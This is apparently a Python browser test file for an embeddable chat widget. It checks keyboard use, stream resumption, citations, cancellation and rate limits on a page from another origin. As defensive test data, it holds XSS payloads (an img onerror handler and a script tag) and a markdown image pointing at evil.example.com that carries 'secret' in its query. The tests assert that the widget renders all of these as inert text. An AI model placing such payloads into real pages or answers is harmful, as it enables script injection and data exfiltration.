"""The widget in a real browser, on a page of another origin under a strict policy, with the application behind it."""

import asyncio
from collections.abc import AsyncGenerator
from contextlib import asynccontextmanager
from typing import Any

import pytest
import uvicorn
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import HTMLResponse
from starlette.routing import Route
from tests import browser
from tests.browser import Tab, a_tab
from tests.integration.api.people import Person
from tests.integration.api.test_bots import a_bot
from tests.integration.api.test_conversations import answered
from tests.integration.api.test_openai import CITATION
from tests.integration.api.test_widget import published
from tests.stack import Database

from sightglass_api.serving import listening
from sightglass_common.db import Pool

pytestmark = pytest.mark.skipif(browser.FOUND is None, reason="There is no Chromium here: apt-get install chromium")

HTML = "<img src=x onerror='window.hacked = 1'><script>window.hacked = 1</script>"
WIDGET = "document.body.lastElementChild.shadowRoot"
PIECES: list[tuple[str, dict[str, Any]]] = [
    ("retrieval", {"results": []}),
    ("delta", {"text": f"The red one. [1] {HTML} ![x](https://evil.example.com/?q=secret) [2]"}),
    ("citation", CITATION | {"title": HTML, "snippet": f"Turn the red one. {HTML}"}),
]
END: list[tuple[str, dict[str, Any]]] = [
    ("retrieval", {}), ("delta", {"text": ""}), ("citation", {}), ("delta", {"text": " Slowly."}), ("done", {}),
]  # fmt: skip
# The way of the first stream breaks behind its first piece; what is known when it is asked for again is noted.
CUT = """
    window.real = window.fetch;
    window.fetch = async (address, how) => {
        const answer = await window.real(address, how);
        if (!address.endsWith("/events")) return answer;
        window.known = how.headers["Last-Event-ID"];
        if (window.known) return answer;
        const reader = answer.body.getReader();
        let begun = false;
        const pull = async (stream) => {
            if (begun) return stream.error(new TypeError("cut"));
            const { value } = await reader.read();
            begun = new TextDecoder().decode(value).includes("id: ");
            stream.enqueue(value);
        };
        return new Response(new ReadableStream({ pull }), { headers: answer.headers });
    };
"""


@asynccontextmanager
async def a_site(script: str) -> AsyncGenerator[tuple[str, list[str]]]:
    """A page on an origin of its own. Gives the origin, and a list that takes the key that the page is to carry."""
    key: list[str] = []

    async def page(_: Request) -> HTMLResponse:
        policy = f"default-src 'none'; script-src {script}; connect-src {script}; img-src data:"
        tag = f'<script src="{script}/widget.js" data-key="{key[0]}" async></script>'
        body = f'<!doctype html><html lang="en"><title>Shop</title><link rel=icon href="data:,"><body>Pumps{tag}'
        return HTMLResponse(body, headers={"Content-Security-Policy": policy})

    site = Starlette(routes=[Route("/", page)])
    server = uvicorn.Server(uvicorn.Config(site, lifespan="off", log_config=None, ws="none"))
    with listening("127.0.0.1", 0) as listener:
        serving = asyncio.create_task(server.serve([listener]))
        yield f"http://127.0.0.1:{listener.getsockname()[1]}", key
        server.should_exit = True
        await serving


async def newest_turn(admin: Pool, person: Person) -> dict[str, str]:
    async with admin.connection() as db:
        while True:
            found = await db.execute(
                "SELECT turn_id::text, job_id::text FROM turn WHERE tenant_id = %s ORDER BY turn_id DESC LIMIT 1",
                [person.tenant_id],
            )
            if row := await found.fetchone():
                return {"turn_id": row[0], "job_id": row[1]}


async def append(database: Database, admin: Pool, person: Person, turn: dict[str, str]) -> None:
    """The rest of an answer of which the first pieces are there."""
    async with admin.connection() as db:
        await db.execute("DELETE FROM turn_event WHERE turn_id = %s", [turn["turn_id"]])
    await answered(database, person, turn, *PIECES, *END[3:])


async def ask(tab: Tab, question: str) -> None:
    await tab.write(question)
    await tab.press("Enter", text="\r")


async def test_a_visitor_reads_an_answer_and_opens_its_source_by_the_keyboard_alone(
    address: str, mallory: Person, database: Database, admin: Pool
) -> None:
    bot = await a_bot(mallory, greeting=f"Ask me. {HTML}")
    async with a_site(address) as (origin, key):
        key.append((await published(mallory, bot, origins=[origin]))["key"])
        async with a_tab(origin) as tab:
            await tab.until(f"document.body.lastElementChild.shadowRoot && {WIDGET}.querySelector('.launch')")
            await tab.press("Tab")
            assert await tab.run(f"{WIDGET}.activeElement.textContent") == "Ask"
            await tab.press("Enter", text="\r")
            assert await tab.until(f"{WIDGET}.querySelector('.bot')?.textContent") == f"Ask me. {HTML}"
            assert await tab.run(f"{WIDGET}.querySelector('h2').textContent") == bot["name"]

            await tab.run(CUT)
            await ask(tab, "Which valve?")
            turn = await newest_turn(admin, mallory)
            await answered(database, mallory, turn, *PIECES)
            await tab.until(f"{WIDGET}.querySelector('.cite')")
            shown = await tab.run(f"{WIDGET}.querySelectorAll('.bot')[1].textContent")
            # Of the source that there is a number was made; of the one that there is not, nothing.
            assert shown == f"The red one. 1 {HTML} ![x](https://evil.example.com/?q=secret) [2]"
            assert await tab.run(f"{WIDGET}.querySelectorAll('.bot')[1].getAttribute('aria-busy')") == "true"
            await append(database, admin, mallory, turn)
            await tab.until(f"!{WIDGET}.querySelector('[aria-busy]')")
            assert (await tab.run(f"{WIDGET}.querySelectorAll('.bot')[1].textContent")).endswith("[2] Slowly.")
            assert await tab.run("window.known") == "3"

            await tab.run(f"{WIDGET}.querySelector('.cite').focus()")
            await tab.press("Enter", text="\r")
            place = await tab.until(f"{WIDGET}.querySelector('.place')?.textContent")
            assert place == f"{HTML} · line 1Turn the red one. {HTML}"
            assert await tab.run(f"{WIDGET}.querySelector('.cite').getAttribute('aria-expanded')") == "true"
            assert await tab.run(f"{WIDGET}.querySelectorAll('img, a, script, iframe').length") == 0

            await tab.press("Escape")
            assert await tab.run(f"[{WIDGET}.querySelector('.panel').hidden, {WIDGET}.activeElement.className]") == [
                True, "launch",
            ]  # fmt: skip
            assert await tab.run("window.hacked") is None
            assert tab.errors == []


async def test_a_visitor_stops_an_answer_and_is_told_what_went_wrong(address: str, alice: Person, admin: Pool) -> None:
    bot = await a_bot(alice)
    async with a_site(address) as (origin, key):
        key.append((await published(alice, bot, origins=[origin], questions_a_day=1))["key"])
        async with a_tab(origin) as tab:
            await tab.until(f"document.body.lastElementChild.shadowRoot && {WIDGET}.querySelector('.launch')")
            await tab.run(f"{WIDGET}.querySelector('.launch').click()")
            await ask(tab, "Which valve?")
            await tab.until(f"!{WIDGET}.querySelector('form button[type=button]').hidden")
            await tab.run(f"{WIDGET}.querySelector('form button[type=button]').click()")
            assert await tab.until(f"{WIDGET}.querySelector('.error')?.textContent") == "Stopped."
            turn = await newest_turn(admin, alice)
            async with admin.connection() as db:
                found = await db.execute("SELECT status FROM job WHERE job_id = %s", [turn["job_id"]])
                assert await found.fetchone() == ("cancelled",)
            await tab.until(f"!{WIDGET}.querySelector('.send').hidden")
            await ask(tab, "And now?")
            told = await tab.until(f"{WIDGET}.querySelectorAll('.error')[1]?.textContent")
            assert told == "Too many questions just now. Please try again later."
